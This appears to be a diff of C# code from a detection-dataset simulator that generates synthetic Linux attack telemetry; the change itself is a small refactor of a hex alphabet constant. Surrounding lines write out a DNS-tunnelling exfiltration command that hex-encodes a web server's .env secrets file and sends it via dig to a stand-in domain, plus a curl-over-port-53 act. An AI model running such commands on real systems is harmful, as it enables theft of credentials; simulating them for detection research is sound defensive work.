@@ -6,8 +6,6 @@ namespace Det0131.Datasets.Simulation.Acts;
 /// <summary>Acts on Linux hosts (AN0368).</summary>
 internal static class LinuxActs
 {
-    private const string Hexadecimal = "0123456789abcdef";
-
     public static IEnumerable<ActScript> Scripts() =>
     [
         new(new Act("lin-curl-port53", "AN0368", "T1048", "curl HTTP on port 53", "build account, the protocol on another's port", "build01", "47.92.10.60"), "build01", [1], CurlPort53),
@@ -35,7 +33,7 @@ internal static class LinuxActs
         var shell = linux.Run(at, "/usr/bin/dash", "sh -c 'xxd -p -c 30 /srv/www/config/.env | while read d; do dig +short $d.d.nsync.test; done'", linux.Resident("/usr/sbin/php-fpm8.4", "www-data"), "www-data");
         linux.Run(at + 50_000, "/usr/bin/xxd", "xxd -p -c 30 /srv/www/config/.env", shell, "www-data");
         var time = at + 100_000;
-        foreach (var name in stage.TunnelNames(280, Hexadecimal, 60, 60, "d.nsync.test"))
+        foreach (var name in stage.TunnelNames(280, TunnelAlphabet.Hexadecimal, 60, 60, "d.nsync.test"))
         {
             var dig = linux.Run(time, "/usr/bin/dig", "dig +short " + name, shell, "www-data");
             linux.Tunnel(dig, time + 12_000, new DnsExchange(name, "A", null));
